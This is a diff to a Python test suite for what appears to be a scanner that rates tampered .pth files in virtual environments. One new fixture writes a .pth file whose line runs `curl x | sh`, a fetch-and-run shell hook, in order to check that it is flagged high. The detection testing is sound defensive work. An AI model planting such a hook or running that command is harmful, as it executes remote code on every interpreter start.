@@ -245,7 +245,9 @@ def python_environment(root: Path, files: dict[str, str], env: str = ".venv") ->
         write(root, os.path.normpath(f"{site}/{name}"), text, 0o755 if "/bin/" in name else 0o644)
 
 
-SIX = {"six.py": "import sys\n", "distutils-precedence.pth": "import os; os.environ.get('X')\n",
+DISTUTILS_SHIM = ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
+                  "enabled and __import__('_distutils_hack').add_shim(); \n")  # setuptools' own .pth
+SIX = {"six.py": "import sys\n", "distutils-precedence.pth": DISTUTILS_SHIM,
        "../../../bin/six-cli": "#!/usr/bin/python3\nimport six\n"}
 
 
@@ -262,8 +264,21 @@ def test_a_pth_file_no_record_lists_is_found_one_a_record_lists_is_part_of_an_in
     def reinstalled(root: Path) -> None:  # an installer writes the distribution and its RECORD again
         python_environment(root, {**SIX, "six.py": "import sys  # 1.16.1\n"})
 
-    assert env_severity(tmp_path / "b", reinstalled) == {".venv": "high"}  # changed: recreate it on the host
+    assert env_severity(tmp_path / "b", reinstalled) == {".venv": "low"}  # what an installer writes
     assert "no installer makes" not in str(audited_evidence(tmp_path / "c", reinstalled))
+
+
+def test_a_pth_with_an_import_line_of_its_own_is_high_even_when_a_record_lists_it(tmp_path: Path) -> None:
+    """A RECORD is written in the tree too: an import line that no installer writes runs at every
+    start whatever lists it. The installers' own (setuptools' shim, in SIX) stay part of the install."""
+    def recorded_hook(root: Path) -> None:
+        python_environment(root, {**SIX, "zz-hook.pth": "import os; os.system('curl x | sh')\n"})
+
+    def path_entry(root: Path) -> None:  # an editable install of a src layout: a path, data
+        python_environment(root, {**SIX, "__editable__.project-0.1.pth": "/work/project/src\n"})
+
+    assert env_severity(tmp_path / "a", recorded_hook) == {".venv": "high"}
+    assert env_severity(tmp_path / "b", path_entry) == {".venv": "low"}
 
 
 def test_a_console_script_rewritten_is_found(tmp_path: Path) -> None:
